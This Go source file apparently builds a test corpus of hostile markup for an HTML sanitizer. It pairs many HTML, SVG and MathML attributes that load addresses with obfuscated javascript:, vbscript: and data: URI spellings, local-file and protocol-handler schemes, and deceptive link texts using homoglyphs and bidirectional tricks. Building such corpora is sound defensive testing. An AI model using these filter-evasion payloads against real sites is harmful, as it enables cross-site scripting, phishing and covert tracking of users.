package hostile

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
)

// carriers are the places in HTML, SVG and MathML that hold an address: "%" is
// where it goes, between double quotes.
var carriers = lines(`
<a href="%">x</a>
<a href="%" target="_top">x</a>
<a href="%" download>x</a>
<a href="https://example.com/" ping="%">x</a>
<map name="m"><area shape="default" href="%" ping="%"></map><img usemap="#m" alt="x">
<img src="%">
<img lowsrc="%" dynsrc="%" longdesc="%">
<img srcset="% 2x" src="data:,">
<img src="x" srcset="%, % 3x" sizes="100vw" loading="eager" fetchpriority="high">
<image src="%">
<input type="image" src="%">
<iframe src="%"></iframe>
<iframe src="%" loading="eager" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>
<frameset><frame src="%"></frameset>
<embed src="%">
<embed src="%" type="text/html">
<embed src="%" type="image/svg+xml">
<object data="%"></object>
<object data="%" type="text/html"></object>
<object data="%" type="image/svg+xml"><img src="%"></object>
<object><param name="src" value="%"><param name="movie" value="%"></object>
<object classid="clsid:0" codebase="%"></object>
<applet code="x" archive="%" codebase="%"></applet>
<form action="%" id="f"><input name="password" type="password"><input type="submit" autofocus></form>
<form><button formaction="%">x</button></form>
<form><input type="submit" formaction="%"></form>
<form id="g"></form><button form="g" formaction="%">x</button>
<isindex type="image" src="%" action="%">
<video src="%" autoplay muted></video>
<video poster="%"></video>
<video autoplay muted><source src="%"></video>
<video><track default kind="captions" src="%"></video>
<audio src="%" autoplay></audio>
<audio preload="auto"><source src="%"></audio>
<bgsound src="%">
<picture><source srcset="%"><img src="data:,"></picture>
<picture><source srcset="% 1x" type="image/webp" media="all"><img></picture>
<link rel="stylesheet" href="%">
<link rel="alternate stylesheet" title="x" href="%">
<link rel="preload" as="image" href="%">
<link rel="preload" as="image" imagesrcset="% 1x">
<link rel="preload" as="script" href="%">
<link rel="modulepreload" href="%">
<link rel="prefetch" href="%">
<link rel="prerender" href="%">
<link rel="dns-prefetch" href="%">
<link rel="preconnect" href="%">
<link rel="icon" href="%">
<link rel="shortcut icon apple-touch-icon" href="%">
<link rel="manifest" href="%">
<link rel="import" href="%">
<link rel="search" type="application/opensearchdescription+xml" href="%">
<link rel="compression-dictionary" href="%">
<script src="%"></script>
<script type="module" src="%"></script>
<script type="speculationrules">{"prefetch":[{"urls":["%"]}]}</script>
<svg><script href="%"></script></svg>
<svg><script xlink:href="%"></script></svg>
<svg><image href="%" width="9" height="9"/></svg>
<svg><image xlink:href="%" width="9" height="9"/></svg>
<svg><use href="%#x"/></svg>
<svg><use xlink:href="%#x"/></svg>
<svg><filter id="f"><feImage href="%"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>
<svg><a href="%"><text y="9">x</text></a></svg>
<svg><a xlink:href="%" xlink:show="replace"><text y="9">x</text></a></svg>
<svg><a><animate attributeName="href" values="%"/><text y="9">x</text></a></svg>
<svg><a><set attributeName="xlink:href" to="%"/><text y="9">x</text></a></svg>
<svg><image><animate attributeName="href" from="%" to="%" begin="0s" dur="1s"/></image></svg>
<svg><image><set attributeName="href" to="%"/></image></svg>
<svg><linearGradient id="l" xlink:href="%#l"/><rect fill="url(#l)" width="9" height="9"/></svg>
<svg><pattern id="p" href="%#p"/><rect fill="url(#p)" width="9" height="9"/></svg>
<svg><text><textPath href="%#t">x</textPath></text></svg>
<svg><animateMotion><mpath href="%#t"/></animateMotion></svg>
<svg><rect fill="url(%)" stroke="url(%)" width="9" height="9"/></svg>
<svg><rect mask="url(%#m)" clip-path="url(%#c)" filter="url(%#f)" width="9" height="9"/></svg>
<svg><path marker-start="url(%#m)" d="M0 0L9 9"/></svg>
<svg><style>@import "%";</style></svg>
<svg><foreignObject><img src="%"></foreignObject></svg>
<svg><foreignObject><iframe src="%"></iframe></foreignObject></svg>
<svg><desc><img src="%"></desc></svg>
<svg><title><img src="%"></title></svg>
<svg><cursor xlink:href="%"/><tref xlink:href="%#x"/><font-face-uri xlink:href="%"/></svg>
<svg><audio src="%" autoplay></audio></svg>
<math href="%">x</math>
<math xlink:href="%"><mi xlink:href="%">x</mi></math>
<math><maction actiontype="statusline#%" xlink:href="%">x</maction></math>
<math><mtext><img src="%"></mtext></math>
<math><annotation-xml encoding="text/html"><img src="%"></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><iframe src="%"></iframe></annotation-xml></math>
<math altimg="%"><mglyph src="%"></mglyph></math>
<table background="%"><tbody background="%"><tr background="%"><td background="%">x</td></tr></tbody></table>
<table><thead><tr><th background="%">x</th></tr></thead></table>
<body background="%">
<body style="background:url('%')">
<base href="%"><img src="x"><a href="y">x</a>
<meta http-equiv="refresh" content="0;url=%">
<meta http-equiv="refresh" content="0; URL='%'">
<meta http-equiv="Link" content="&lt;%&gt;; rel=stylesheet">
<meta http-equiv="set-cookie" content="a=%">
<meta property="og:image" content="%">
<html manifest="%" xmlns="%">
<head profile="%">
<blockquote cite="%">x</blockquote>
<q cite="%">x</q>
<del cite="%">x</del>
<layer src="%"></layer>
<ilayer background="%"></ilayer>
<xml src="%" id="i"></xml><span datasrc="#i" datafld="c" dataformatas="html">x</span>
<portal src="%"></portal>
<fencedframe src="%"></fencedframe>
<webview src="%"></webview>
<menu><menuitem icon="%">x</menuitem></menu>
<command icon="%">
<marquee background="%">x</marquee>
<hr background="%" src="%">
<div background="%" src="%" href="%" data="%" action="%">x</div>
<p itemscope itemtype="%" itemid="%"><meta itemprop="x" content="%"></p>
<template shadowrootmode="open"><img src="%"></template>
<div><template shadowrootmode="open"><style>@import "%";</style></template></div>
<div><template shadowrootmode="open"><link rel="stylesheet" href="%"></template></div>
<noscript><img src="%"></noscript>
<noembed><img src="%"></noembed>
<select><option style="background:url('%')">x</option></select>
<style>@import "%";</style>
<style>@import url("%") screen;</style>
<style>@font-face{font-family:x;src:url("%")}b{font-family:x}</style><b>x</b>
<style>@namespace url("%");@document url("%"){b{color:red}}</style>
<style>body,p,div{background-image:url("%")}</style>
<style>li{list-style:url("%")}</style><ul><li>x</ul>
<style>p::before{content:url("%")}</style><p>x</p>
<style>input[value^="a"]{background:url("%")}</style><input value="a">
<?xml-stylesheet href="%" type="text/css"?><p>x</p>
<?import namespace="t" implementation="%">
<!DOCTYPE x SYSTEM "%"><p>x</p>
<!--[if gte mso 9]><v:image src="%"/><![endif]--><v:fill src="%"></v:fill>
<![if true]><img src="%"><![endif]>
<p><object type="text/x-scriptlet" data="%"></object></p>
`)

// remote are the spellings of an address elsewhere that a browser may follow.
var remote = []func(place) string{
	func(p place) string { return p.url },
	func(p place) string { return "//" + p.host },
	func(p place) string { return `\\` + p.host },
	func(p place) string { return `/\` + p.host },
	func(p place) string { return "HTTP://" + p.host },
	func(p place) string { return "http:" + p.host },
	func(p place) string { return `http:\/` + p.host },
	func(p place) string { return "ht&Tab;tp:/&NewLine;/" + p.host },
	func(p place) string { return " &#1;&#32;" + p.url + " " },
	func(p place) string { return entities(p.url, "&#x%x") },
	func(p place) string { return entities(p.url, "&#%07d;") },
	func(p place) string { return "http&colon;&sol;&sol;" + p.host },
	func(p place) string { return "http://example.com@" + p.host },
}

// elsewhere are addresses of other schemes, which some program follows.
var elsewhere = []string{"/logout", "?view=text", "#main", "https:/logout", "http:logout", "mailto", "file:///etc/passwd", "smb://host/x", "ms-msdt:/id", "search-ms:query=x",
	"ftp://host/x", "blob:https://host/x", "filesystem:https://host/x", "intent://x#Intent;end", "chrome://settings", "about:blank",
	"tel&#58;javascript:x", "cid:none", "mid:none@x", "mhtml:http://host!x", "steam://x", "vscode://x"}

// scripted are the spellings of an address that is a script.
var scripted = []func(place) string{
	func(p place) string { return "javascript:" + p.js },
	func(p place) string { return "JaVaScRiPt:" + p.js },
	func(p place) string { return "java&Tab;script:" + p.js },
	func(p place) string { return "java\tscript:" + p.js },
	func(p place) string { return "java&NewLine;script&colon;" + p.js },
	func(p place) string { return "java\r\nscript:" + p.js },
	func(p place) string { return "j&#x0A;a&#x0D;v&#x09;ascript&#58;" + p.js },
	func(p place) string { return "&#1;&#8;&#14; javascript:" + p.js },
	func(p place) string { return "&#xa0;&#x2028;javascript:" + p.js },
	func(p place) string { return entities("javascript:"+p.js, "&#%d;") },
	func(p place) string { return entities("javascript:"+p.js, "&#%07d") + " " },
	func(p place) string { return entities("javascript:"+p.js, "&#X%X;") },
	func(p place) string { return "java\x00script:" + p.js },
	func(p place) string { return "java&#0;script:" + p.js },
	func(p place) string { return "java\u00adscript:" + p.js },
	func(p place) string { return "javascript\u2236" + p.js },
	func(p place) string { return "javascript&#65306;" + p.js },
	func(p place) string { return "javascript://example.com/%0a" + p.js },
	func(p place) string { return "javascript:/*--&gt;*/" + p.js + "//https://example.com/" },
	func(p place) string { return "https://example.com/&#x0a;javascript:" + p.js },
	func(p place) string { return "%6aavascript:" + p.js },
	func(p place) string { return "javascript%3a" + p.js },
	func(p place) string { return `\6a avascript:` + p.js },
	func(p place) string { return "javascript&amp;colon;" + p.js },
	func(p place) string { return "vbscript:" + p.js },
	func(p place) string { return "VBScript&colon;MsgBox" + p.js },
	func(p place) string { return "livescript:" + p.js },
	func(p place) string { return "mocha:[" + p.js + "]" },
	func(p place) string { return "feed:javascript:" + p.js },
	func(p place) string { return "view-source:javascript:" + p.js },
	func(p place) string { return "jar:javascript:" + p.js + "!/x" },
	func(p place) string { return "x-javascript:" + p.js },
	func(p place) string { return "mhtml:javascript:" + p.js },
	func(p place) string { return "0;url=javascript:" + p.js },
	func(p place) string { return quoted("data:text/html,<script>" + p.js + "</script>") },
	func(p place) string { return "DATA:TEXT/HTML," + quoted("<body onload="+p.js+">") },
	func(p place) string { return "da&Tab;ta:text&sol;html;base64&comma;" + script64(p) },
	func(p place) string { return "data:text/html;charset=utf-8;base64," + script64(p) },
	func(p place) string {
		return "data:text/html;charset=utf-7,+ADw-script+AD4-" + p.js + "+ADw-/script+AD4-"
	},
	func(p place) string {
		return "data:text/html;charset=utf-16le;base64," + wide64("<script>"+p.js+"</script>")
	},
	func(p place) string { return "data:,;text/html," + quoted("<script>"+p.js+"</script>") },
	func(p place) string { return "data:;base64," + script64(p) },
	func(p place) string { return "data:image/svg+xml," + quoted(svg(p)) },
	func(p place) string {
		return "data:image/svg+xml;base64," + base64.StdEncoding.EncodeToString([]byte(svg(p)))
	},
	func(p place) string { return "data:image/svg%2bxml," + url.PathEscape(svg(p)) },
	func(p place) string { return "data:image/png;image/svg+xml," + quoted(svg(p)) },
	func(p place) string {
		return "data:application/xhtml+xml," + quoted(`<html xmlns="http://www.w3.org/1999/xhtml"><script>`+p.js+"</script></html>")
	},
	func(p place) string {
		return "data:text/xml," + quoted(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">`+p.js+"</x:script>")
	},
	func(p place) string { return "data:text/javascript," + p.js },
	func(p place) string {
		return "data:text/css," + quoted(`@import "`+p.url+`";*{background:url(`+p.url+`)}`)
	},
	func(p place) string { return "data:text/xsl," + quoted("<script>"+p.js+"</script>") },
}

func script64(p place) string {
	return base64.StdEncoding.EncodeToString([]byte("<script>" + p.js + "</script>"))
}

func svg(p place) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" onload="` + p.js + `"><image href="` + p.url + `"/><script>` + p.js + `</script></svg>`
}

// wide64 is s in UTF-16, little end first, in base64.
func wide64(s string) string {
	var b []byte
	for _, c := range []byte(s) {
		b = append(b, c, 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// addresses puts every spelling of an address elsewhere into every carrier, and
// those of scripts: all into the first, which browsers navigate by, and half into
// the others.
func (c *corpus) addresses() {
	for i, carrier := range carriers {
		fill := func(address string) string { return strings.ReplaceAll(carrier, "%", address) }
		for _, spell := range remote {
			c.add("load", func(p place) string { return fill(spell(p)) })
		}
		for j, spell := range scripted {
			if i < 24 || (i+j)%2 == 0 {
				c.add("scheme", func(p place) string { return fill(spell(p)) })
			}
		}
	}
	for i, address := range elsewhere {
		for _, carrier := range carriers[:24] {
			c.add("scheme", func(p place) string {
				return fmt.Sprintf("<!--%d-->", i) + strings.ReplaceAll(carrier, "%", address)
			})
		}
	}
	// A link that shows another address than the one it leads to.
	for _, shown := range []string{"https://www.example.com/login", "www.example.com", "help@example.com", "example.com\u2044login", "&#x202e;moc.elpmaxe//:sptth",
		"https://example.com\u2066/\u2069", "ex\u00adample.com", "ex&#x200b;ample.com", "ехаmple.com", "<img alt='https://example.com/'>", "<bdo dir=rtl>moc.elpmaxe//:sptth</bdo>",
		"<span style='display:none'>evil</span>https://example.com/", "<u>https://example.com/</u>"} {
		for _, spell := range remote[:8] {
			c.add("scheme", func(p place) string { return `<a href="` + spell(p) + `">` + shown + "</a>" })
		}
		for _, spell := range scripted[:12] {
			c.add("scheme", func(p place) string {
				return `<a title="https://example.com/" href="` + spell(p) + `">` + shown + "</a>"
			})
		}
	}
}

// lines are the lines of s that aren't empty.
func lines(s string) (out []string) {
	for line := range strings.SplitSeq(s, "\n") {
		if line != "" {
			out = append(out, line)
		}
	}
	return out
}
